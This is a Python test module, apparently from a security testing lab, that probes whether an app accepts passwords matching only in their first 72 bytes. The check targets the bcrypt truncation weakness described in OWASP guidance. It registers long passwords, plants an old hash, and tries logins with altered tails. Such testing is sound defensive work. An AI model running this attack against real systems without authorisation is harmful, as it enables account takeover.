"""Log in with a password that is right in its first 72 bytes only.

Exploits bcrypt, which ignores what follows byte 72. An app that takes longer passwords may still
hold hashes of the time before it did.
Source: OWASP Password Storage Cheat Sheet, Input Limits of bcrypt,
https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html#input-limits-of-bcrypt
ASVS: 6.2.8
"""

import secrets
from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.hashes import bcrypt_of, put_hash
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Person, Target

ROUNDS = 4  # of an old hash: its cost is no matter here

Tries = Iterator[tuple[str, httpx.Response]]


def tails(target: Target, person: Person, head: str) -> Tries:
    """Log in with the right beginning, and with something else behind it, or nothing."""
    for tail in ("-wrong-tail", "x", ""):
        if (typed := f"{head}{tail}") != person.password:
            yield f"another tail, of {len(tail)}", target.log_in(person.username, typed)


def at_the_door(target: Target, head: str) -> Tries:
    """Register with a long password, where the app takes it."""
    person = Person(password=f"{head}-right-tail")
    registered = target.register(person)
    if registered.is_client_error:
        yield "a password of more than 72 bytes", registered
    else:
        target.token_of(person)
        yield from tails(target, person, head)


def behind_an_old_hash(target: Target, head: str) -> Tries:
    """Put an old hash of 72 bytes into a row; their owner gets in, and others try before and after.

    Where nobody logs in, or no such hash is kept, there is nothing to try.
    """
    new = target.enrol()
    if target.log_in(new.username, new.password).is_success and put_hash(
        target, new, bcrypt_of(head, ROUNDS)
    ):
        owner = Person(new.username, head)
        for when in ("before", "after"):
            for how, answer in tails(target, owner, head):
                yield f"{how}, {when} the owner of an old hash", answer
                if answer.is_success:
                    return
            target.token_of(owner)


@attack()
def run(target: Target) -> Outcome:
    """Try other tails at a password of today, and at a hash of the time before."""
    target.enrol()
    head = secrets.token_hex(36)  # two characters for each of 36 bytes
    answers = dict(at_the_door(target, head))
    return judge({**answers, **dict(behind_an_old_hash(target, head))})
